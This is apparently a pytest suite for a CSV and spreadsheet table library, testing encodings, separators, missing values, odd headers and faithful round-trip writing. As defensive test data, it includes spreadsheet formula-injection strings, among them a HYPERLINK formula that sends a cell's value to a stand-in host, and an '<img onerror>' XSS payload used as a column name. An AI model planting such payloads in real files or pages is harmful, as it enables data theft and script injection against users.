"""The cases of the field, read and written back."""

from __future__ import annotations

import numpy as np
import pytest

import compdp_core.tables.table as tables_of_bytes
from compdp_core.tables import Affix, Mixture, Table, errors, format_cells, read, write
from tests.unit.tables.files import FILES, ODDITIES, unpacked

REFUSED = {"A13_empty", "A13_header_only", "A13_blank_lines", "A15_open"}
READABLE = {name: data for name, data in (FILES | ODDITIES).items() if name not in REFUSED}


def labels(table: Table) -> list[str]:
    return [column.label for column in table.columns]


def codes(table: Table) -> set[str]:
    return {notice.code for notice in table.notices}


def notice(table: Table, code: str) -> tuple[str, tuple[int, ...]]:
    found = next(n for n in table.notices if n.code == code)
    return found.text, found.rows


def values(table: Table, column: int) -> list[float]:
    return [float(value) for value in table.numbers(column).values]


@pytest.mark.parametrize("name", READABLE)
def test_untouched_file_comes_back_byte_for_byte_and_is_read_the_same(name: str) -> None:
    one, two = read(READABLE[name]), read(READABLE[name])
    written = write(one, guard_formulas=False)
    assert (written.data, written.guarded) == (unpacked(READABLE[name]), 0)
    for part in ("fingerprint", "columns", "format", "notices"):
        assert getattr(one, part) == getattr(two, part)


@pytest.mark.parametrize("name", READABLE)
def test_texts_of_a_column_at_once_are_those_of_its_cells(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    table = read(READABLE[name])
    monkeypatch.setattr(tables_of_bytes, "_STEP", 2)
    for column in range(min(5, len(table.columns))):
        one_by_one = [table.cell(row, column) for row in range(table.row_count)]
        assert table.texts(column) == one_by_one
        assert table.texts(column, -2) == one_by_one[-2:]
        assert table.texts(column, 1, 3) == one_by_one[1:3]
        assert table.texts(column, 3, 1) == []


def test_byte_order_mark_is_no_part_of_the_name() -> None:
    table = read(FILES["A01"])
    assert labels(table) == ["student", "age", "score"]
    assert table.format.bom
    assert values(table, 2) == [71.5, 64, 88.25]


def test_utf16_opens_with_and_without_mark() -> None:
    table = read(FILES["A02"])
    assert table.texts(0) == ["Zoë", "Jürg", "Łucja"]
    assert (table.format.encoding, table.format.separator) == ("utf-16-le", "\t")
    bare = read(FILES["A02_nobom"])
    assert bare.texts(0) == ["Zoe", "Jurg"]
    assert bare.format.encoding == "utf-16-le"
    assert "encoding" in codes(bare)


def test_says_which_encoding_was_assumed() -> None:
    table = read(FILES["A03"])
    assert labels(table)[1] == "price €"
    assert table.texts(2) == ["it’s fine", "5 – 6 weeks"]
    assert "cp1252" in notice(table, "encoding")[0]
    assert "encoding" in table.format.assumed


def test_semicolons_and_decimal_commas() -> None:
    table = read(FILES["A04"])
    assert (table.format.separator, table.format.decimal) == (";", ",")
    assert values(table, 2) == [52.5, 61.25, 48]
    new = write(table, {2: format_cells([50.1, 60.2, 40.3], 1, table.format.decimal)})
    assert new.data == FILES["A04"].replace(b"52,5", b"50,1").replace(b"61,25", b"60,2").replace(
        b"48,0", b"40,3"
    )
    single = read(FILES["A04_onecol"])
    assert len(single.columns) == 1
    assert values(single, 0) == [52.5, 61.25, 48]
    changed = read(FILES["A04"], separator=",", decimal=".", skip_lines=0, header=True)
    assert changed.header == ("Name;Alter;Gewicht",)
    assert changed.format.assumed == {"encoding"}
    assert write(changed).data == FILES["A04"]


def test_says_why_and_offers_one_symbol() -> None:
    _, salary, bonus, height, balance = read(FILES["A06"]).columns
    assert isinstance(salary.affix, Mixture)
    assert "$1,234.50" in salary.refusal
    assert "€2,100.00" in salary.refusal
    assert bonus.affix == Affix(suffix="%")
    assert "12%" in bonus.refusal
    assert isinstance(height.affix, Mixture)
    assert balance.affix == Affix(parentheses=True)
    table = read(FILES["A06"])
    np.testing.assert_array_equal(
        table.numbers(2, strip=Affix(suffix="%")).values, [12, 7.5, np.nan]
    )
    stripped = table.stripped(4)
    assert stripped.columns[4].usable
    assert values(stripped, 4) == [-35, 20, -5.25]
    assert write(stripped, guard_formulas=False).data == FILES["A06"]


@pytest.mark.parametrize(("name", "rows"), [("A08", (1, 2, 3)), ("A08_firstrow", (1,))])
def test_trailing_comma_moves_nothing(name: str, rows: tuple[int, ...]) -> None:
    table = read(FILES[name])
    assert labels(table) == ["id", "age", "score"]
    assert values(table, 1) == [14, 15, 13]
    assert notice(table, "extra_empty_cells")[1] == rows


def test_trailing_comma_in_front_of_carriage_return() -> None:
    table = read(FILES["A08"].replace(b"\n", b"\r\n"))
    assert labels(table) == ["id", "age", "score"]
    assert notice(table, "extra_empty_cells")[1] == (1, 2, 3)


def test_names_by_position_and_header_as_typed() -> None:
    table = read(FILES["A09"])
    assert labels(table) == ["id", "score (column 2)", "score (column 3)", "(column 4)", "score.1"]
    assert table.header == ("id", "score", "score", "", "score.1")
    assert values(table, 2) == [90, 80, 70]
    new = write(table, {2: ["1", "2", "3"]})
    assert new.data == b"id,score,score,,score.1\n1,10,1,5,7\n2,20,2,6,8\n3,30,3,4,9\n"


def test_long_ids_stay_and_are_not_offered() -> None:
    table = read(FILES["A10"])
    student, opened, score = table.columns
    assert student.identifier
    assert opened.identifier
    assert not student.usable
    assert not opened.usable
    assert not student.constant
    assert score.usable
    with pytest.raises(errors.PrecisionError, match="row 1") as caught:
        table.numbers(0)
    assert caught.value.text == "1582218195625938945"
    new = write(table, {2: ["1", "2", "3"]}).data
    assert b"1582218195625938945,20230301181139587,1\n,20230301181139588,2\n" in new
    assert not read(FILES["A10_21digit"]).columns[0].usable


def test_words_in_text_are_no_missing_values() -> None:
    table = read(FILES["A11"])
    code, score = table.columns[1:]
    assert code.missing == 0
    assert score.usable
    assert score.missing == 6
    assert dict(score.missing_spellings) == {
        "": 1, "NA": 1, "n.a.": 1, "-": 1, "missing": 1, "#N/A": 1,
    }  # fmt: skip
    new = write(table, {2: format_cells(table.numbers(2).values, 0)})
    assert new.data == FILES["A11"]


def test_leading_zeros() -> None:
    table = read(FILES["A12"])
    assert [bool(column.identifier) for column in table.columns] == [True, True, False]
    assert b"007,02138,50\n" in write(table, {2: ["50", "60", "70"]}).data


def test_each_kind_of_nothing_has_its_own_message() -> None:
    with pytest.raises(errors.EmptyFileError, match="0 bytes"):
        read(FILES["A13_empty"])
    with pytest.raises(errors.EmptyFileError, match="only blank lines"):
        read(FILES["A13_blank_lines"])
    with pytest.raises(errors.NoRowsError, match="no data rows"):
        read(FILES["A13_header_only"])
    table = read(FILES["A13_no_header"])
    assert table.row_count == 3
    assert labels(table) == ["column 1", "column 2"]
    assert "14, 71.5" in notice(table, "no_header")[0]
    named = read(FILES["A13_no_header"], header=True)
    assert named.row_count == 2
    assert labels(named) == ["14", "71.5"]


def test_packed_files_and_excel_open() -> None:
    table = read(FILES["A14_gzip"])
    assert values(table, 1) == [71, 64]
    assert table.format.gzip
    assert table.fingerprint == read(unpacked(FILES["A14_gzip"])).fingerprint
    workbook = read(FILES["A14_xlsx"])
    assert (workbook.container.kind, workbook.format.table) == ("xlsx", "Scores")
    assert values(workbook, 1) == [71, 64]
    assert workbook.fingerprint == table.fingerprint
    assert values(read(FILES["A14_zip"]), 1) == [2]


def test_swallowed_rows_are_announced() -> None:
    table = read(FILES["A15_swallow"])
    assert table.row_count == 3
    text, rows = notice(table, "cell_over_lines")
    assert "a cell spans several lines (row 2" in text.lower()
    assert "lines 3 to 5" in text
    assert rows == (2,)
    with pytest.raises(errors.UnclosedQuoteError, match="line 3") as caught:
        read(FILES["A15_open"])
    assert caught.value.line == 3
    assert read(FILES["A15_open"], quote="").row_count == 4


def test_sep_line_titles_totals_and_ragged_rows() -> None:
    sep = read(FILES["A16_sep"])
    assert (sep.format.sep_line, sep.format.separator) == (True, ";")
    assert values(sep, 2) == [71.5, 64]

    title = read(FILES["A16_title"])
    assert labels(title) == ["id", "age", "score"]
    assert title.format.skip_lines == 2
    assert "title_lines" in codes(title)
    assert notice(title, "total_row")[1] == (3,)
    kept = write(title, rows=np.array([True, True, False]))
    assert kept.data == FILES["A16_title"].replace(b"Total,,135\n", b"")
    assert kept.rows == 2
    given = read(FILES["A16_title"], skip_lines=2)
    assert "title_lines" not in codes(given)
    assert given.columns == title.columns
    assert read(FILES["A16_title"], skip_lines=0).header[0] == "Class results 2025"

    ragged = read(FILES["A16_ragged"])
    assert ragged.row_count == 4
    assert notice(ragged, "short_rows")[1] == (2,)
    assert notice(ragged, "extra_cells")[1] == (3,)
    np.testing.assert_array_equal(ragged.numbers(2).values, [71, np.nan, 88, 52])


def test_non_finite_cells_are_counted_and_refused() -> None:
    score = read(FILES["A20"]).columns[1]
    assert (score.numbers, score.non_finite, score.missing) == (2, 4, 1)
    assert "'inf' in row 2" in score.refusal
    with pytest.raises(errors.NonFiniteError, match="row 2"):
        read(FILES["A20"]).numbers(1)
    only = read(FILES["A20_inf_only"])
    assert only.columns[1].non_finite == 3
    as_missing = read(FILES["A20_inf_only"], missing=["inf", "-inf", "1e400"])
    np.testing.assert_array_equal(as_missing.numbers(1).values, [10.5, np.nan, np.nan, np.nan, 12])


def test_formulas_are_made_safe_and_numbers_are_not_touched() -> None:
    written = write(read(FILES["A21"]))
    assert written.guarded == 7
    table = read(written.data)
    assert table.header[3] == "'=2+5"
    assert table.texts(0) == [
        "'=HYPERLINK(\"http://example.invalid/?\"&C2,\"see\")", "Ana", "Bo", "'\t=1+1"
    ]  # fmt: skip
    assert table.texts(1) == ["'@SUM(1+1)", "'+44 20 0000 0000", "'-2+3", "'\r=1+1"]
    assert table.texts(2) == ["-12.5", "7.0", "-0.5", "3.25"]
    # Once is enough.
    assert write(table).data == written.data


def test_whole_numbers_stay_whole_beside_missing_cells() -> None:
    data = b"n\n3\nNA\n5\n"
    table = read(data)
    assert table.columns[0].whole
    new = write(table, {0: format_cells(table.numbers(0).values, 0)})
    assert new.data == data


def test_for_excel_in_utf8_with_mark() -> None:
    written = write(read(FILES["A23"]), excel=True)
    assert written.data == b"\xef\xbb\xbf" + FILES["A23"]
    again = read(written.data)
    assert labels(again) == ["prénom", "ville", "note"]
    assert write(again).data == written.data
    western = write(read(FILES["A03"]), excel=True)
    assert western.data == b"\xef\xbb\xbf" + FILES["A03"].decode("cp1252").encode()


def test_many_columns() -> None:
    table = read(FILES["A25_wide"])
    assert len(table.columns) == 1200
    assert all(column.numeric for column in table.columns)
    assert table.head(2, 3) == [["1", "2", "3"], ["1", "3", "5"]]


def test_equal_values_are_said() -> None:
    _, score, nothing = read(FILES["B06"]).columns
    assert score.constant
    assert not nothing.usable
    assert "no values" in nothing.refusal
    assert read(FILES["B06_onerow"]).columns[1].constant


def test_names_appear_exactly_as_typed() -> None:
    assert labels(read(FILES["B09"])) == [
        "cost $USD to $EUR", "*score*", ":red[grade]", "<img src=x onerror=alert(1)>", "a|b",
        "`code`", "[link](http://example.invalid)",
    ]  # fmt: skip


def test_missing_values_are_counted() -> None:
    table = read(FILES["C01"])
    assert [column.missing for column in table.columns] == [0, 1, 1]
    numbers = table.numbers(1)
    np.testing.assert_array_equal(numbers.values, [14, np.nan, 15, 200, 13])
    np.testing.assert_array_equal(numbers.missing, [False, True, False, False, False])
    empty = read(FILES["C01_allmissing"])
    assert not empty.columns[1].usable
    with pytest.raises(errors.NoValuesError, match="age"):
        empty.numbers(1)


def test_extremes_are_given_only_when_asked_for() -> None:
    table = read(FILES["C01"])
    assert "200" not in repr(table.columns[1])
    assert table.peek(1) == (13, 200)
